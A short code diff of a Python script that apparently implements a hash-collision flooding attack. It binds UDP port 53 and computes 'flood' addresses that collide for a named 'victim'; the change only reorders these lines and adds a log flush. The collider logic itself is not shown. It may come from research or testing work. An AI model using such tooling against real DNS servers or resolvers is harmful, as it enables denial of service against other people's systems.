@@ -70,10 +70,11 @@ def main():
     addr, victim, allowed, slots = sys.argv[1:5]
     mask = int(slots) - 1
     neighbour = addr.rsplit(".", 1)[0] + ".%d" % (int(addr.rsplit(".", 1)[1]) + 1)
-    flood = colliders(victim, mask, 24)
-    sys.stderr.write("flood addresses: %s\n" % " ".join(flood))
     s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     s.bind((addr, 53))
+    flood = colliders(victim, mask, 24)
+    sys.stderr.write("flood addresses: %s\n" % " ".join(flood))
+    sys.stderr.flush()
     while True:
         msg, peer = s.recvfrom(4096)
         if len(msg) < 17:
